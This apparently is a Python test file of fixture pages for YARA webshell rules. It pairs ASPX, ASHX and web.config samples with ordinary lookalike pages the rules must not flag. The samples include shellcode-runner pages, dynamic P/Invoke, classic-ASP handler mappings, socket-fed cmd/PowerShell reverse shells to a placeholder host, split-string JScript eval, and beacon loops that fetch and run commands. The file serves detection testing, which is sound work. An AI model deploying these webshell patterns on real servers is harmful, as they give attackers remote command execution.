"""Rules from the nineteenth unseen collection: shells from pentest, CTF and OSCP/OSEP notes and tool
repositories (issue 14, helper X19).

Shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, nineteenth collection"): an
OSEP-course shellcode runner that builds its P/Invoke methods at run time with Reflection.Emit
(``DefinePInvokeMethod``) instead of declaring them; a cheat sheet's web.config that maps an invented
extension (``*.x``) to classic ASP; a cheat sheet's "ASPX webshell" that starts cmd.exe bare and reads its
output in the same expression; (batch 3) a notes file's JScript eval spelled one letter at a time; and
(batch 4) a C2 framework's page that polls its server forever and runs what it receives. Two more rules
give the shellcode runners of the same notes (``msfvenom -f aspx`` pages) and their socket reverse shells (a
TcpClient page, a BlogEngine.NET theme control), which only the behaviour analysis found, YARA rules of
their own. The rules are in ``data/rules/shellcode_runners.yar``, ``config_build_providers.yar``,
``kit_actions.yar``, ``payload_launchers.yar``, ``hidden_eval_code.yar`` and ``download_and_run.yar``; the
pages below reproduce the shapes and the ordinary pages closest to them. All pages were written for these
tests: nothing is compiled or run, the "shellcode" is a few no-op bytes, the hosts and names are
placeholders, and none is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_DECLS = (
    '[System.Runtime.InteropServices.DllImport("kernel32")]\n'
    "static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);\n"
    '[System.Runtime.InteropServices.DllImport("kernel32")]\n'
    "static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, uint c, IntPtr i);\n"
)

# --- executable memory, bytes copied in, started ----------------------------------------------------------
RUNNERS: list[Page] = [
    (
        "cs-alloc-copy-thread",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        + _DECLS
        + "void Page_Load(object s, EventArgs e) {\n"
        "  byte[] b = new byte[3] { 0x90, 0x90, 0xc3 };\n"
        "  IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, 0x40);\n"
        "  System.Runtime.InteropServices.Marshal.Copy(b, 0, m, b.Length);\n"
        "  CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, IntPtr.Zero);\n}\n</script>",
    ),
    (
        "cs-protect-then-callback",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        '[System.Runtime.InteropServices.DllImport("kernel32")] static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint n, out uint o);\n'
        '[System.Runtime.InteropServices.DllImport("kernel32")] static extern bool EnumSystemLocalesA(IntPtr f, uint d);\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "  byte[] b = { 0x90, 0xc3 }; uint o;\n"
        "  IntPtr m = System.Runtime.InteropServices.Marshal.AllocHGlobal(b.Length);\n"
        "  System.Runtime.InteropServices.Marshal.Copy(b, 0, m, b.Length);\n"
        "  VirtualProtect(m, (UIntPtr)b.Length, 0x20, out o);\n  EnumSystemLocalesA(m, 0);\n}\n</script>",
    ),
    (
        "vb-alloc-copy-thread",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        '<System.Runtime.InteropServices.DllImport("kernel32")> Shared Function VirtualAlloc(a As IntPtr, s As UIntPtr, t As UInteger, p As UInteger) As IntPtr\nEnd Function\n'
        '<System.Runtime.InteropServices.DllImport("kernel32")> Shared Function CreateThread(a As IntPtr, s As UIntPtr, f As IntPtr, p As IntPtr, c As UInteger, i As IntPtr) As IntPtr\nEnd Function\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        "  Dim b As Byte() = {&H90, &HC3}\n"
        "  Dim m As IntPtr = VirtualAlloc(IntPtr.Zero, New UIntPtr(2), &H1000, &H40)\n"
        "  System.Runtime.InteropServices.Marshal.Copy(b, 0, m, 2)\n"
        "  CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, IntPtr.Zero)\nEnd Sub\n</script>",
    ),
]

RUNNERS_ORDINARY: list[Page] = [
    (
        "uptime-page-gettickcount",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        '[System.Runtime.InteropServices.DllImport("kernel32")] static extern uint GetTickCount();\n'
        "void Page_Load(object s, EventArgs e) { Up.Text = (GetTickCount() / 1000).ToString(); }\n</script>\n"
        '<asp:Label id="Up" runat="server" />',
    ),
    (
        "thumbnail-lockbits-copy",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Thumb" %>\nusing System.Drawing; using System.Drawing.Imaging;\n'
        "public class Thumb : System.Web.IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    var bmp = new Bitmap(c.Server.MapPath("~/img/logo.png"));\n'
        "    var d = bmp.LockBits(new Rectangle(0, 0, bmp.Width, bmp.Height), ImageLockMode.ReadOnly, bmp.PixelFormat);\n"
        "    byte[] px = new byte[d.Stride * d.Height];\n"
        "    System.Runtime.InteropServices.Marshal.Copy(d.Scan0, px, 0, px.Length);\n"
        "    bmp.UnlockBits(d);\n  }\n}",
    ),
    (
        "memory-status-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "[System.Runtime.InteropServices.StructLayout(System.Runtime.InteropServices.LayoutKind.Sequential)]\n"
        "class MemStat { public uint Length = 64; public uint Load; public ulong Total, Avail, PTotal, PAvail, VTotal, VAvail, Ext; }\n"
        '[System.Runtime.InteropServices.DllImport("kernel32")] static extern bool GlobalMemoryStatusEx([System.Runtime.InteropServices.In, System.Runtime.InteropServices.Out] MemStat m);\n'
        'void Page_Load(object s, EventArgs e) { var m = new MemStat(); GlobalMemoryStatusEx(m); Load.Text = m.Load + " %"; }\n'
        '</script>\n<asp:Label id="Load" runat="server" />',
    ),
]

# --- a P/Invoke method built at run time ------------------------------------------------------------------
_EMIT = (
    "static object Call(string lib, string fn, Type ret, Type[] types, object[] args) {\n"
    '  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new System.Reflection.AssemblyName("d"), System.Reflection.Emit.AssemblyBuilderAccess.Run);\n'
    '  var mb = ab.DefineDynamicModule("d");\n'
    "  var m = mb.DefinePInvokeMethod(fn, lib, System.Reflection.MethodAttributes.Public | System.Reflection.MethodAttributes.Static | System.Reflection.MethodAttributes.PinvokeImpl,\n"
    "    System.Reflection.CallingConventions.Standard, ret, types, System.Runtime.InteropServices.CallingConvention.Winapi, System.Runtime.InteropServices.CharSet.Ansi);\n"
    "  mb.CreateGlobalFunctions();\n  return mb.GetMethod(fn).Invoke(null, args);\n}\n"
)

DYNAMIC_PINVOKE: list[Page] = [
    (
        "cs-emit-pinvoke-decoded-names",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        + _EMIT
        + "void Page_Load(object s, EventArgs e) {\n"
        '  string lib = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("a2VybmVsMzIuZGxs"));\n'
        '  Call(lib, "GetTickCount", typeof(uint), Type.EmptyTypes, new object[0]);\n}\n</script>',
    ),
    (
        "cs-emit-pinvoke-copy-bytes",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new System.Reflection.AssemblyName("x"), System.Reflection.Emit.AssemblyBuilderAccess.Run);\n'
        '  var mb = ab.DefineDynamicModule("x");\n'
        '  mb.DefinePInvokeMethod("LocalAlloc", "kernel32.dll", System.Reflection.MethodAttributes.Static | System.Reflection.MethodAttributes.PinvokeImpl, System.Reflection.CallingConventions.Standard, typeof(IntPtr), new[] { typeof(uint), typeof(UIntPtr) }, System.Runtime.InteropServices.CallingConvention.Winapi, System.Runtime.InteropServices.CharSet.Ansi);\n'
        "  byte[] b = { 0x90 };\n  IntPtr p = System.Runtime.InteropServices.Marshal.AllocHGlobal(1);\n"
        "  System.Runtime.InteropServices.Marshal.Copy(b, 0, p, 1);\n}\n</script>",
    ),
]

DYNAMIC_PINVOKE_ORDINARY: list[Page] = [
    (
        "emit-dynamic-dto-type",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new System.Reflection.AssemblyName("Dto"), System.Reflection.Emit.AssemblyBuilderAccess.Run);\n'
        '  var tb = ab.DefineDynamicModule("Dto").DefineType("Row", System.Reflection.TypeAttributes.Public);\n'
        '  tb.DefineField("Name", typeof(string), System.Reflection.FieldAttributes.Public);\n'
        "  var t = tb.CreateType();\n"
        "  Grid.DataSource = new[] { Activator.CreateInstance(t) }; Grid.DataBind();\n"
        '  typeof(Console).GetMethod("Beep", Type.EmptyTypes).Invoke(null, null);\n}\n</script>\n'
        '<asp:GridView id="Grid" runat="server" />',
    ),
    (
        "static-dllimport-logonuser",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        '[System.Runtime.InteropServices.DllImport("advapi32.dll", SetLastError = true)]\n'
        "static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr h);\n"
        'void Check_Click(object s, EventArgs e) { IntPtr h; Ok.Text = LogonUser(User.Text, "CORP", Pass.Text, 3, 0, out h).ToString(); }\n'
        '</script>\n<asp:TextBox id="User" runat="server" /><asp:TextBox id="Pass" TextMode="Password" runat="server" />'
        '<asp:Button runat="server" OnClick="Check_Click" /><asp:Label id="Ok" runat="server" />',
    ),
]

# --- an extension handed to classic ASP -------------------------------------------------------------------
_CONFIG_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<configuration>\n  <system.webServer>\n'
_CONFIG_TAIL = "  </system.webServer>\n</configuration>\n"

CLASSIC_ASP_MAPPING: list[Page] = [
    (
        "config-maps-invented-extension",
        ".config",
        _CONFIG_HEAD + '    <handlers accessPolicy="Read, Script">\n'
        '      <add name="note" path="*.note" verb="*" modules="IsapiModule"\n'
        '           scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" />\n'
        "    </handlers>\n" + _CONFIG_TAIL,
    ),
    (
        "config-maps-itself-with-script-after",
        ".config",
        _CONFIG_HEAD + '    <handlers accessPolicy="Read, Script, Write">\n'
        '      <add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="C:\\Windows\\System32\\inetsrv\\asp.dll" resourceType="Unspecified" requireAccess="Write" />\n'
        "    </handlers>\n" + _CONFIG_TAIL + '<!--\n<% Response.Write("placeholder") %>\n-->\n',
    ),
    (
        "config-processor-before-path-image-extension",
        ".config",
        "<configuration>\n  <system.webServer>\n    <handlers>\n"
        '      <add scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" modules="IsapiModule" verb="GET,POST" path="*.jpg" name="img" />\n'
        "    </handlers>\n" + _CONFIG_TAIL,
    ),
]

CLASSIC_ASP_MAPPING_ORDINARY: list[Page] = [
    (
        "iis-aspclassic-mapping",
        ".config",
        _CONFIG_HEAD + "    <handlers>\n"
        '      <add name="ASPClassic" path="*.asp" verb="GET,HEAD,POST" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />\n'
        "    </handlers>\n" + _CONFIG_TAIL,
    ),
    (
        "legacy-site-htm-through-asp",
        ".config",
        _CONFIG_HEAD + "    <handlers>\n"
        '      <add name="HtmAsAsp" path="*.htm" verb="GET,POST" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />\n'
        "    </handlers>\n" + _CONFIG_TAIL,
    ),
    (
        "php-fastcgi-mapping",
        ".config",
        _CONFIG_HEAD + "    <handlers>\n"
        '      <add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="C:\\PHP\\php-cgi.exe" resourceType="Either" />\n'
        "    </handlers>\n" + _CONFIG_TAIL,
    ),
    (
        "aspx-page-handler",
        ".config",
        _CONFIG_HEAD + "    <handlers>\n"
        '      <add name="Report" path="report.axd" verb="GET" type="Reports.ReportHandler, Reports" />\n'
        "    </handlers>\n" + _CONFIG_TAIL,
    ),
]

# --- cmd or PowerShell started bare, its stream touched at once --------------------------------------------
BARE_INTERPRETER: list[Page] = [
    (
        "cs-bare-cmd-output-to-label",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'void Page_Load(object s, EventArgs e) { Out.Text = System.Diagnostics.Process.Start("cmd").StandardOutput.ReadToEnd(); }\n'
        '</script>\n<asp:Literal id="Out" runat="server" />',
    ),
    (
        "vb-bare-powershell-output",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Response.Write(System.Diagnostics.Process.Start("powershell.exe").StandardOutput.ReadToEnd())\n%>',
    ),
    (
        "cs-bare-cmd-input-writer",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler {\n'
        "  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    var w = System.Diagnostics.Process.Start(@"C:\\Windows\\System32\\cmd.exe").StandardInput;\n'
        '    w.WriteLine("echo placeholder");\n  }\n}',
    ),
]

BARE_INTERPRETER_ORDINARY: list[Page] = [
    (
        "iisreset-button",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'void Reset_Click(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c iisreset /noforce").WaitForExit(); }\n'
        '</script>\n<asp:Button runat="server" OnClick="Reset_Click" Text="Restart" />',
    ),
    (
        "ping-tool-read-after-redirect",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 db01.example.invalid") { UseShellExecute = false, RedirectStandardOutput = true };\n'
        "Status.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n%>",
    ),
    (
        "report-tool-started-bare",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var p = System.Diagnostics.Process.Start("reportgen.exe");\np.WaitForExit();\n'
        'Response.Write("report ready: " + p.ExitCode);\n%>',
    ),
]

# --- a connection's stream written into an interpreter's standard input ------------------------------------
_SOCKET_LOOP = (
    '  using (var c = new System.Net.Sockets.TcpClient("192.0.2.10", 4444))\n'
    "  using (var r = new System.IO.StreamReader(c.GetStream())) {\n"
    "    var p = new System.Diagnostics.Process();\n"
    '    p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;\n'
    "    p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;\n"
    "    p.Start();\n    string l; while ((l = r.ReadLine()) != null) p.StandardInput.WriteLine(l);\n  }\n"
)

SOCKET_FED: list[Page] = [
    (
        "cs-page-tcpclient-cmd",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        + _SOCKET_LOOP
        + "}\n</script>",
    ),
    (
        "cs-theme-control-tcpclient-cmd",
        ".ascx",
        '<%@ Control Language="C#" AutoEventWireup="true" %>\n<script runat="server">\n'
        "protected override void OnLoad(EventArgs e) {\n  base.OnLoad(e);\n" + _SOCKET_LOOP + "}\n</script>",
    ),
    (
        "vb-socket-powershell",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        '  Dim c As New System.Net.Sockets.TcpClient("192.0.2.10", 443)\n'
        "  Dim r As New System.IO.StreamReader(c.GetStream())\n"
        '  Dim i As New System.Diagnostics.ProcessStartInfo("powershell.exe")\n'
        "  i.UseShellExecute = False : i.RedirectStandardInput = True\n"
        "  Dim p = System.Diagnostics.Process.Start(i)\n"
        "  p.StandardInput.WriteLine(r.ReadLine())\nEnd Sub\n</script>",
    ),
]

SOCKET_FED_ORDINARY: list[Page] = [
    (
        "smtp-port-check",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\nusing (var c = new System.Net.Sockets.TcpClient("mail.example.invalid", 25))\n'
        "using (var r = new System.IO.StreamReader(c.GetStream())) { Banner.Text = r.ReadLine(); }\n%>",
    ),
    (
        "sqlcmd-fed-from-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("sqlcmd.exe", "-S db01 -E") { UseShellExecute = false, RedirectStandardInput = true };\n'
        'var p = System.Diagnostics.Process.Start(i);\np.StandardInput.WriteLine("EXEC dbo.NightlyReport");\np.StandardInput.WriteLine("GO");\n%>',
    ),
    (
        "cache-client-and-iisreset",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\nvar c = new System.Net.Sockets.TcpClient("cache01", 11211);\n'
        'var w = new System.IO.StreamWriter(c.GetStream()); w.WriteLine("flush_all"); w.Flush();\n'
        'System.Diagnostics.Process.Start("cmd.exe", "/c iisreset /noforce");\n%>',
    ),
]


# --- JScript eval of text glued together from one- and two-letter literals --------------------------------
_LETTERS = '"R"+"e"+"s"+"p"+/**/"o"+"n"+"s"+"e"+"."+"W"+"r"+/**/"i"+"t"+"e"+"("+"1"+")"'

FRAGMENTED_EVAL: list[Page] = [
    (
        "js-letters-with-comments",
        ".aspx",
        '<%@ Page Language="Jscript" %>\n<% var x = ' + _LETTERS + '; eval(x, "u"+"n"+"s"+"a"+"f"+"e"); %>',
    ),
    (
        "js-two-letter-pieces-script-block",
        ".aspx",
        '<script runat="server" language="JScript">\nfunction Page_Load() {\n'
        '  var c = "Re"+"sp"+"on"+"se"+".W"+"ri"+"te"+"(1"+")";\n'
        '  eval(c, "un"+"sa"+"fe"+"");\n  var k = "ab"+"cd"+"ef"+"gh"+"ij"+"kl";\n}\n</script>',
    ),
    (
        "js-single-quotes-directive-without-space",
        ".aspx",
        "<%@PageLanguage=Jscript%>\n<%var P='e'+'v'+/*-*/'a'+'l'+'('+'R'+'e'+'q'+'u'+'e'+'s'+'t'+'[1]'+')';"
        "eval/*-*/(P,'u'+'n'+'s'+'a'+'f'+'e');%>",
    ),
]

FRAGMENTED_EVAL_ORDINARY: list[Page] = [
    (
        "js-csv-export-and-formula",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<% var line = id + "," + name + "," + city + "," + zip + "," + phone + ","'
        ' + mail + "," + a + "," + b + "," + c + "," + d + "," + e + "," + f;\n'
        'Response.Write(line); Response.Write(eval("6*7")); %>',
    ),
    (
        "js-state-codes-without-eval",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<% var s = "AL"+"AK"+"AZ"+"AR"+"CA"+"CO"+"CT"+"DE"+"FL"+"GA"+"HI"+"ID"+"IL"+"IN";'
        " Response.Write(s.length); %>",
    ),
    (
        "cs-letters-and-databinder-eval",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% string t = "a"+"b"+"c"+"d"+"e"+"f"+"g"+"h"+"i"+"j"+"k"+"l"+"m"; %>\n'
        '<asp:Repeater id="R" runat="server"><ItemTemplate><%# Eval("Name") %></ItemTemplate></asp:Repeater>',
    ),
]

# --- a page that polls a URL forever and runs what it gets ------------------------------------------------
POLLING_IMPLANT: list[Page] = [
    (
        "cs-webclient-beacon-cmd",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n  while (true) {\n"
        '    string c = new System.Net.WebClient().DownloadString("http://192.0.2.10/task");\n'
        '    if (c.Length > 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + c);\n'
        "    System.Threading.Thread.Sleep(30000);\n  }\n}\n</script>",
    ),
    (
        "cs-webrequest-beacon-powershell-for-loop",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n  for (;;) {\n"
        '    var r = System.Net.WebRequest.Create("https://c2.example.invalid/next").GetResponse();\n'
        "    string c = new System.IO.StreamReader(r.GetResponseStream()).ReadToEnd();\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-c " + c) { UseShellExecute = false };\n'
        "    System.Diagnostics.Process.Start(i);\n    System.Threading.Thread.Sleep(60000);\n  }\n}\n</script>",
    ),
    (
        "vb-upload-string-beacon",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        "  While True\n"
        '    Dim c As String = New System.Net.WebClient().UploadString("http://192.0.2.10/b", Environment.MachineName)\n'
        '    System.Diagnostics.Process.Start("cmd", "/c " + c)\n'
        "    System.Threading.Thread.Sleep(5000)\n  End While\nEnd Sub\n</script>",
    ),
]

POLLING_IMPLANT_ORDINARY: list[Page] = [
    (
        "rates-page-fetch-once",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string x = new System.Net.WebClient().DownloadString("https://rates.example.invalid/eur.json");\n'
        "Rate.Text = x;\n%>",
    ),
    (
        "status-poller-no-interpreter",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Wait" %>\npublic class Wait : System.Web.IHttpHandler {\n'
        "  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n    while (true) {\n"
        '      string st = new System.Net.WebClient().DownloadString("http://build01/status");\n'
        '      if (st == "done") break;\n      System.Threading.Thread.Sleep(2000);\n    }\n  }\n}',
    ),
    (
        "deploy-button-fixed-script",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Deploy_Click(object s, EventArgs e) {\n"
        '  new System.Net.WebClient().DownloadFile("http://build01/app.zip", @"D:\\drop\\app.zip");\n'
        '  System.Diagnostics.Process.Start("cmd.exe", "/c " + @"D:\\drop\\deploy.cmd");\n}\n</script>',
    ),
]

CASES: list[RuleCase] = [
    ("EXT_WEBSHELL_Shellcode_Runner_Page", RUNNERS, RUNNERS_ORDINARY),
    ("EXT_WEBSHELL_Dynamic_PInvoke_In_Page", DYNAMIC_PINVOKE, DYNAMIC_PINVOKE_ORDINARY),
    ("EXT_WEBSHELL_Config_Extension_Run_By_Classic_ASP", CLASSIC_ASP_MAPPING, CLASSIC_ASP_MAPPING_ORDINARY),
    ("EXT_WEBSHELL_Bare_Interpreter_Stream_In_Page", BARE_INTERPRETER, BARE_INTERPRETER_ORDINARY),
    ("EXT_WEBSHELL_Socket_Fed_Interpreter", SOCKET_FED, SOCKET_FED_ORDINARY),
    ("EXT_WEBSHELL_JScript_Eval_Unsafe_Split", FRAGMENTED_EVAL, FRAGMENTED_EVAL_ORDINARY),
    ("EXT_WEBSHELL_Polling_Implant_Runs_Fetched_Command", POLLING_IMPLANT, POLLING_IMPLANT_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
